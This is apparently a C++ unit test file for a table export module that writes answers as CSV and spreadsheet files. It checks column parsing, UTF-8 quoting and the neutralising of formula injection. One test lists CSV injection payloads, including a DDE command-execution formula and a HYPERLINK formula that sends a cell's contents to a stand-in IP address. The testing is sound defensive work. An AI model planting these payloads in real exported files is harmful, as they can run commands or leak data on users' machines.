// Any table of an answer as CSV: whatever stands in a cell, nobody's spreadsheet computes it.
#include "node/web/table_file.h"

#include <gmock/gmock.h>

#include <chrono>
#include <nlohmann/json.hpp>

namespace xianjie::node {
namespace {

using nlohmann::json;
using testing::HasSubstr;
using testing::StartsWith;

constexpr const char* kBom = "\xef\xbb\xbf";

TableText table(const json& answer, std::string_view list, std::string_view columns) {
  return table_of(answer, list, parse_columns(columns).value()).value();
}
std::string csv(const json& answer, std::string_view list, std::string_view columns) {
  const Bytes bytes = to_csv(table(answer, list, columns));
  return {bytes.begin(), bytes.end()};
}

TEST(TableColumns, AreKeysAndTitles) {
  const auto columns = parse_columns("office:机构,copies.accepted:抄送: 已收").value();
  ASSERT_EQ(columns.size(), 2U);
  EXPECT_EQ(columns[0].key, "office");
  EXPECT_EQ(columns[0].title, "机构");
  EXPECT_EQ(columns[1].key, "copies.accepted");
  EXPECT_EQ(columns[1].title, "抄送: 已收");
}

TEST(TableColumns, RefuseWhatIsNone) {
  for (const char* bad : {"", ",", "a", ":A", "a:A,", "a:A,,b:B", "a:\xff\xfe"})
    EXPECT_FALSE(parse_columns(bad)) << bad;
  std::string many = "a:A";
  for (std::size_t i = 1; i < kTableColumnsMax; ++i) many += ",a:A";
  EXPECT_TRUE(parse_columns(many));
  EXPECT_FALSE(parse_columns(many + ",a:A"));
  EXPECT_FALSE(parse_columns(std::string(1'000'000, ',')));
}

TEST(TableRows, AreFoundByTheirPath) {
  const json answer{{"queues", {{{"a", 1}, {"b", {{"c", "x"}}}}, {{"a", 2}}}},
                    {"ages", {{"rows", {{{"a", nullptr}}}}}},
                    {"totals", {{"a", 1}}},
                    {"words", {"x"}}};
  const TableText queues = table(answer, "queues", "a:A,b.c:C");
  EXPECT_EQ(queues.rows, (std::vector<std::vector<json>>{{1, "x"}, {2, nullptr}}));
  EXPECT_EQ(table(answer, "ages.rows", "a:A").rows.size(), 1U);
  const auto columns = parse_columns("a:A").value();
  for (const char* wrong : {"", ".", "queue", "queues.", "queues.0", "totals", "words", "ages",
                            "queues.a.b.c", "..", "\xff"})
    EXPECT_FALSE(table_of(answer, wrong, columns)) << wrong;
  for (const json& odd : {json(nullptr), json(5), json::array(), json("queues")})
    EXPECT_FALSE(table_of(odd, "queues", columns)) << odd;
}

TEST(TableRows, ACellIsAScalar) {
  const json answer{
      {"r", {{{"a", {"x", "y", 3}}, {"b", true}, {"c", {{"d", 1}}}, {"e", json::array()}}}}};
  const TableText rows = table(answer, "r", "a:A,b:B,c:C,e:E,a.x:F");
  ASSERT_EQ(rows.rows.size(), 1U);
  ASSERT_EQ(rows.rows[0].size(), 5U);
  EXPECT_EQ(rows.rows[0][0], "x y 3");
  for (const json& cell : rows.rows[0]) EXPECT_FALSE(cell.is_structured()) << cell;
}

TEST(Sheet, IsWhatStandsOnAPage) {
  const auto bytes = sheet_of(
      json::parse(R"({"title":"账号","columns":["账号","次数"],"rows":[["=1+1",5],["",0]]})"));
  ASSERT_TRUE(bytes);
  EXPECT_THAT(as_text(*bytes), StartsWith("PK"));
}

TEST(Sheet, RefusesWhatIsNoTable) {
  for (const char* bad :
       {"{}", R"({"columns":[],"rows":[]})", R"({"columns":["a"],"rows":{}})",
        R"({"columns":["a"],"rows":[["x","y"]]})", R"({"columns":["a"],"rows":["x"]})"})
    EXPECT_FALSE(sheet_of(json::parse(bad))) << bad;
}

TEST(Csv, IsUtf8WithAMarkAndQuotesWhatNeedsIt) {
  const json answer{{"r", {{{"a", "一,二"}, {"b", 5}}, {{"a", "\"甲\"\r\n乙"}, {"b", nullptr}}}}};
  EXPECT_EQ(csv(answer, "r", "a:名称,b:数"), std::string(kBom) +
                                                 "名称,数\r\n"
                                                 "\"一,二\",5\r\n"
                                                 "\"\"\"甲\"\"\r\n乙\",\r\n");
  EXPECT_EQ(csv({{"r", json::array()}}, "r", "a:A"), std::string(kBom) + "A\r\n");
}

// No cell begins with what a spreadsheet program would compute.
TEST(Csv, AFormulaIsText) {
  for (const char* hostile :
       {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "\t=1+1", "\r=1+1", "\n=1+1",
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1)", "＝1+1"}) {
    const std::string text = csv({{"r", {{{"a", hostile}, {"b", "x"}}}}}, "r", "b:B,a:A");
    const std::size_t cell = text.find("x,") + 2;
    const std::size_t first = text.find_first_not_of('"', cell);
    ASSERT_NE(first, std::string::npos);
    EXPECT_EQ(std::string_view("=+-@\t\r\n").find(text[first]), std::string_view::npos)
        << hostile << " became " << text.substr(cell);
  }
  const std::string title = csv({{"r", json::array()}}, "r", "a:=1+1");
  EXPECT_EQ(title.find(std::string(kBom) + "="), std::string::npos) << "a title is a cell too";
  EXPECT_THAT(csv({{"r", {{{"a", {"=1+1", "x"}}}}}}, "r", "a:A"), testing::Not(HasSubstr("\n=")));
  const json key{{"r", {{{"a", "=1+1"}}}}};
  EXPECT_THAT(csv(key, "r", "a:A"), HasSubstr("=1+1")) << "and is still there to read";
}

TEST(Csv, ANumberBelowZeroStaysANumber) {
  EXPECT_THAT(csv({{"r", {{{"a", -5}}}}}, "r", "a:A"), HasSubstr("\r\n-5\r\n"));
  EXPECT_THAT(csv({{"r", {{{"a", "110101180001010015"}}}}}, "r", "a:A"),
              HasSubstr("110101180001010015"));
}

TEST(Csv, BrokenUtf8BreaksNothing) {
  const json answer{{"r", {{{"a", "\xff\xfe甲\x80"}}, {{"a", std::string("n\0n", 3)}}}}};
  std::string text;
  EXPECT_NO_THROW(text = csv(answer, "r", "a:A"));
  EXPECT_THAT(text, StartsWith(kBom));
  EXPECT_THAT(text, HasSubstr("甲"));
}

TEST(Csv, TwoHundredThousandRowsAreQuick) {
  json rows = json::array();
  for (int i = 0; i < 200'000; ++i)
    rows.push_back({{"id", "0123456789abcdef0123456789abcdef"}, {"n", i}, {"zh", "乡镇司法所"}});
  const json answer{{"ages", {{"rows", std::move(rows)}}}};
  const auto start = std::chrono::steady_clock::now();
  const std::string text = csv(answer, "ages.rows", "id:编号,n:数,zh:名称");
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(30));
  EXPECT_EQ(std::ranges::count(text, '\n'), 200'001);
}

}  // namespace
}  // namespace xianjie::node
